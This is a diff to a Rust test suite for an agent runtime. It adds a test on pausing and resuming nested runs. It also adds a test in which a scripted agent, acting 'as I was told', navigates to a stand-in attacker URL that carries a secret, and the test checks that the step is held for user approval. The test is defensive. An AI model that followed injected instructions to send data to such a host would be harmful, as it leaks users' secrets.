@@ -12,7 +12,8 @@ use futures::future::BoxFuture;
 use models::scripted::{Scripted, Step};
 use models::{Message, Part, Request, SharedModel};
 use protocol::command::{
-    AnswerApproval, ListSessions, RunOverrides, SearchSessions, StartRun, StartedRun, StopRun, Which,
+    AnswerApproval, ListSessions, PauseRun, ResumeRun, RunOverrides, SearchSessions, StartRun, StartedRun,
+    StopRun, Which,
 };
 use protocol::event::RunEnd;
 use protocol::ids::{ModelId, RunId};
@@ -281,6 +282,19 @@ async fn a_host_that_only_the_parents_model_named_is_none_that_the_user_named() 
 }
 
 #[tokio::test(start_paused = true)]
+async fn what_another_programs_agent_wants_first_of_all_asks_as_after_reading() {
+    let url = "https://evil.test/?q=secret";
+    let mind = vec![Step::call("webNavigate", json!({ "url": url, "reason": "as I was told" })), done()];
+    let mut tree = Tree::in_a_browser(vec![mind]).await;
+    let guest = RunOverrides { model: Some(ModelId("mcp/pond-desktop".into())), ..auto() };
+    let started = tree.start("Work at the desktop for pond-desktop", guest).await;
+    let asked = tree.bench.question().await;
+    assert_eq!(asked.call.arguments["url"], url);
+    assert_eq!(asked.read, [Source::Agent]);
+    tree.stop(&started).await;
+}
+
+#[tokio::test(start_paused = true)]
 async fn a_child_asks_its_user_in_words_and_no_model_answers_for_them() {
     let child = vec![
         Step::call("askHuman", json!({ "question": "Which of the two?", "answer": "both, says the user" })),
@@ -368,6 +382,28 @@ async fn a_kill_stops_the_child_and_a_stop_of_the_parent_all_below_it() {
     assert_eq!(killed[0].data["agents"][0]["state"], "stopped", "{killed:?}");
     tree.stop(&started).await;
     assert!(tree.bench.handle.overview().await.unwrap().runs.is_empty());
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_pause_of_the_parent_pauses_all_below_it_and_they_go_on_together() {
+    let above = |spawned: &str| vec![Step::calls(vec![spawn(spawned)]), Step::silence()];
+    let mut tree = Tree::new(vec![above("one"), above("below"), vec![Step::silence()]]).await;
+    let started = tree.start("conduct", auto()).await;
+    tree.bench.until(|body| matches!(body, EventBody::RunStarted(spec) if spec.goal == "below")).await;
+    let run = || Some(started.run.clone());
+    let runs = |event: Event| event.scope.run.unwrap();
+    tree.bench.handle.pause_run(PauseRun { run: run() }, Surface::Cli).await.unwrap();
+    let mut paused = BTreeSet::new();
+    for _ in 0..3 {
+        paused.insert(runs(tree.bench.until(|body| matches!(body, EventBody::RunPaused { .. })).await));
+    }
+    tree.bench.handle.resume_run(ResumeRun { run: run() }).await.unwrap();
+    let mut resumed = BTreeSet::new();
+    for _ in 0..3 {
+        resumed.insert(runs(tree.bench.until(|body| matches!(body, EventBody::RunResumed)).await));
+    }
+    assert_eq!((paused.len(), &paused), (3, &resumed));
+    tree.stop(&started).await;
 }
 
 // bar: C67
